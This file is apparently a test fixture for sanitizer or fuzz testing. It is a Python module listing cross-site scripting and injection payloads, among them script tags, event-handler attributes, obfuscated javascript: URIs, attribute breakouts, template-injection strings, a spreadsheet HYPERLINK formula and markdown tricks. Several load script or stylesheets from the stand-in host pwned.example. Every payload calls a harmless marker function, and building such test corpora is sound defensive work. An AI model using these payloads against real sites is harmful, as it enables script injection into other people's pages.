"""Texts that try to run something: each names `pwned`, so that it can be told when one gets there.

They are lines that a person could type into a field.
"""

_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter",
    "onanimationstart", "ontoggle", "onbegin", "onwheel", "oncopy", "onpaste", "oninput",
    "onbeforetoggle", "onscrollend",
)  # fmt: skip
_TAGS = (
    "img", "video", "audio", "svg", "body", "iframe", "object", "embed", "details", "marquee",
    "input", "select", "textarea", "math", "form", "button", "a", "style", "link", "meta", "base",
    "template",
)  # fmt: skip
_ADDRESSES = (
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(1)",
    " javascript:pwned(1)",
    "javascript://x%0Apwned(1)",
    "java&#9;script:pwned(1)",
    "&#106;avascript:pwned(1)",
    "&#x6A&#x61vascript:pwned(1)",
    "data:text/html,<script>parent.pwned(1)</script>",
    "data:image/svg+xml,<svg onload=pwned(1)>",
    "vbscript:pwned(1)",
    "//pwned.example/x.js",
    "\\\\pwned.example\\x",
    "feed:javascript:pwned(1)",
    "blob:pwned(1)",
)
_SCRIPTS = (
    "<script>pwned(1)</script>",
    "<ScRiPt>pwned(1)</sCrIpT>",
    "<script/src=//pwned.example/x.js></script>",
    "<script type=module>pwned(1)</script>",
    "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    "</title><script>pwned(1)</script>",
    "</textarea><script>pwned(1)</script>",
    "</style><script>pwned(1)</script>",
    "--><script>pwned(1)</script><!--",
    "]]><script>pwned(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "<svg><script href=data:,pwned(1) />",
    "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(1)>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)>",
    "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<base href=//pwned.example/>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<style>@import '//pwned.example/x.css';*{display:none}</style>",
    "<form action=//pwned.example><button>pwned</button></form>",
    "<div style='position:fixed;inset:0;background:red'>pwned</div>",
    "<p id=content class=pwned hidden>",
    "</main></body></html><h1>pwned</h1>",
)
_BREAKOUTS = (
    '"><img src=x onerror=pwned(1)>',
    "'><img src=x onerror=pwned(1)>",
    '" onfocus=pwned(1) autofocus x="',
    "' onmouseover=pwned(1) x='",
    "` onmouseover=pwned(1) x=`",
    "&quot;&gt;&lt;img src=x onerror=pwned(1)&gt;",
    "&lt;script&gt;pwned(1)&lt;/script&gt;",
    "%3Cscript%3Epwned(1)%3C/script%3E",
    "\\u003cscript\\u003epwned(1)",
    "\\x3cscript\\x3epwned(1)",
    "'-pwned(1)-'",
    "\\'-pwned(1)//",
    "${pwned(1)}",
    "{{ pwned(1) }}",
    "{% include 'pwned' %}",
    "{{constructor.constructor('pwned(1)')()}}",
    "<%= pwned(1) %>",
    "#{pwned(1)}",
    "＜script＞pwned(1)＜/script＞",
    "=HYPERLINK(\"javascript:pwned(1)\")",
)  # fmt: skip
_MARKDOWN = (
    '[x](https://x.example/"onmouseover=pwned(1)) pwned',
    '[x](https://x.example "\\" onclick=pwned(1)")',
    "![x](https://pwned.example/x.png)",
    "![x\"onerror=\"pwned(1)](x)",
    "<javascript:pwned(1)>",
    "<https://x.example/?\"onclick=pwned(1)>",
    "`<script>pwned(1)</script>`",
    "# <img src=x onerror=pwned(1)>",
    "> <svg onload=pwned(1)>",
    "- <details open ontoggle=pwned(1)>",
    "**<b onclick=pwned(1)>x</b>**",
    "[<img src=x onerror=pwned(1)>](https://x.example)",
    "| <i onclick=pwned(1)> |",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *_SCRIPTS,
    *_BREAKOUTS,
    *_MARKDOWN,
    *(f"<img src=x {handler}=pwned(1)>" for handler in _HANDLERS),
    *(f"<{tag} onload=pwned(1) onerror=pwned(1) src=x>" for tag in _TAGS),
    *(f"<a href='{address}'>x</a>" for address in _ADDRESSES),
    *(f"[x]({address})" for address in _ADDRESSES),
)


def paragraphs() -> str:
    """Return all of them, each in a paragraph of its own."""
    return "\n\n".join(PAYLOADS)


def line(start: int, longest: int) -> str:
    """Return as many as a field takes, beginning with the one that stands at `start`.

    What is too long by itself is cut off, which is another thing that a person may type.
    """
    text = PAYLOADS[start % len(PAYLOADS)][:longest]
    for step in range(1, len(PAYLOADS)):
        more = f"{text} {PAYLOADS[(start + step) % len(PAYLOADS)]}"
        if len(more) > longest:
            break
        text = more
    return text
